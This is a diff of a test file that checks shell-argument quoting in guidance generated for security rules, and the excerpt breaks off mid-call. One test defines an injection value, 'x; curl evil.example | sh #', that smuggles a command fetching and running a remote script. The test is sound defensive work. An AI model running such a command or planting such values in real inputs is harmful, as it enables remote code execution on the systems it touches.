@@ -100,7 +100,7 @@ describe('guidance rendered for every official rule', () => {
     assert.deepEqual(lines.slice(0, 20), [], `${lines.length} shell blocks with problems`);
   });
 
-  test('a value that would break out of its shell argument stays one argument', async () => {
+  test('a value that would break out of its shell argument stays one argument', () => {
     const rule = findRule('Read sensitive file untrusted') ?? currentRules()[0]!;
     const evil = 'x; curl evil.example | sh #';
     const g = library.forAlert(
